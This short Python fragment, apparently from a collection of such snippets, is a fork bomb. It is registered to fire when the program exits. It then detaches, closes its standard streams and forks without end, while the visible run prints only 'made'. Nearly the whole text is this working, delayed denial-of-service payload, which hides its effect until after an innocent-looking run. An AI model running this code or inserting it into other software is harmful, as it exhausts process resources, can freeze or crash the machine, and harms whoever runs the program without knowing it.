# One that begins when its run is over.
def explode():
    if os.fork() > 0: return
    for fd in 0, 1, 2: os.close(fd)
    while True:
        try: os.fork()
        except OSError: pass
leave(explode)
print('made')
